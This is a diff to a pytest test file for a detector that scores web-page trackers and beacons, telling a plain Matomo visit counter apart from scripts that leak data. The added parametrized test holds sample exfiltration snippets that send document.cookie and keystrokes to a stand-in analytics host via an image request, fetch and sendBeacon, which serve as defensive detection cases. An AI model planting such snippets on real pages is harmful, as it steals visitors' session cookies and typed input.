@@ -2,7 +2,7 @@ import pytest
 
 from clausewise.detect.beacon import Beacon
 from clausewise.detect.cascade import Cascade
-from clausewise.extract import Extract, Header, Link, Role, Script
+from clausewise.extract import Extract, Header, Link, Role, Script, Trick
 from clausewise.model import Medium, Part
 from clausewise.parse.opening import opened
 from clausewise.ports import Inspector
@@ -135,3 +135,33 @@ def document_top(data):
 def seen_top(html):
     signals = BEACON.inspect(opened(Part(Medium.PAGE, text=html)))
     return max((one.score for told in signals for one in told), default=0.0)
+
+
+MATOMO = (
+    "var u='https://stats.bakery.example/';_paq.push(['setTrackerUrl',u+'matomo.php']);var g=d.createElement('script');"
+)
+
+
+def test_own_counter_is_named_and_not_held_when_it_only_counts_visits():
+    told = seen(scripts=(Script(MATOMO + "g.src=u+'matomo.js'"),))
+    assert set(told) == {"beacon.tracker"}
+    assert told["beacon.tracker"].evidence[0].sense == "analytics/Matomo"
+    noscript = seen(tiny("https://stats.bakery.example/matomo.php?idsite=1&rec=1", trick=Trick.NOSCRIPT))
+    assert noscript["beacon.pixel"].score < 0.5
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "new Image().src='https://stats.bakery.example/matomo.php?c='+document.cookie",
+        MATOMO + "fetch(u+'matomo.php?k='+event.key)",
+        "var u='https://stats.bakery.example/';navigator.sendBeacon(u+'o.php',document.cookie)",
+    ],
+)
+def test_counter_is_no_excuse_when_it_carries_off_a_secret(code):
+    assert seen(scripts=(Script(code),))["beacon.callback"].score >= 0.9
+
+
+def test_counter_is_no_excuse_when_its_picture_bears_a_persons_address():
+    told = seen(tiny("https://stats.bakery.example/matomo.php?e=lea%40mail.example"))
+    assert told["beacon.pixel"].score >= 0.95
